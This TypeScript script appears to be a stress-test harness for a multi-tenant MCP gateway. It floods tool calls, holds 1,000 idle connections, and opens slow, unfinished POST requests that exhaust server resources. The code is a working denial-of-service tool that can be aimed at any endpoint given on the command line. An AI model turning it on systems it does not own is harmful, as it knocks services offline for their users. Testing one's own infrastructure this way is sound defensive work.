// node attack.ts ENDPOINT SECONDS: what one tenant can do from outside to its own server and to the gateway, all at
// once. A separate process, so that it does not slow down the measuring one.
import { connect } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";

const [endpoint = "", seconds = "30"] = process.argv.slice(2);
const until = Date.now() + Number(seconds) * 1_000;
const { hostname, port } = new URL(endpoint);

const callOf = (name: string, args: Record<string, unknown>): RequestInit => ({
  method: "POST",
  headers: {
    "content-type": "application/json",
    accept: "application/json, text/event-stream",
    "mcp-protocol-version": "2026-07-28",
    "mcp-method": "tools/call",
    "mcp-name": name,
  },
  body: JSON.stringify({
    jsonrpc: "2.0",
    id: 1,
    method: "tools/call",
    params: {
      name,
      arguments: args,
      _meta: {
        "io.modelcontextprotocol/protocolVersion": "2026-07-28",
        "io.modelcontextprotocol/clientCapabilities": {},
        "io.modelcontextprotocol/clientInfo": { name: "attack", version: "1.0.0" },
      },
    },
  }),
  signal: AbortSignal.timeout(Math.max(1, until - Date.now())),
});

/** Calls a tool repeatedly until the time is over, ignoring the results. */
async function insist(name: string, args: Record<string, unknown>): Promise<void> {
  while (Date.now() < until) {
    await fetch(endpoint, callOf(name, args))
      .then((response) => response.arrayBuffer())
      .catch(() => sleep(50));
  }
}

/** Connections that say nothing, or begin a large body and never end it; each is opened again when it is closed. */
async function occupy(text: string): Promise<void> {
  while (Date.now() < until) {
    await new Promise<void>((done) => {
      const socket = connect(Number(port), hostname === "localhost" ? "127.0.0.1" : hostname);
      const timer = setTimeout(() => socket.destroy(), until - Date.now());
      socket.on("connect", () => socket.write(text));
      socket.on("error", () => {});
      socket.on("close", () => {
        clearTimeout(timer);
        done();
      });
    });
    await sleep(100);
  }
}

const unfinished =
  `POST ${new URL(endpoint).pathname} HTTP/1.1\r\nHost: ${new URL(endpoint).host}\r\n` +
  `Content-Type: application/json\r\nContent-Length: 4000000\r\n\r\n${"x".repeat(100_000)}`;
const times = (count: number, work: () => Promise<void>) => Array.from({ length: count }, work);
await Promise.all([
  ...times(2, () => insist("flood", { seconds: 5 })),
  ...times(2, () => insist("digits", { lines: 40 })),
  ...times(200, () => insist("hold", { seconds: 60 })),
  ...times(1_000, () => occupy("")),
  ...times(50, () => occupy(unfinished)),
]);
process.exit(0);
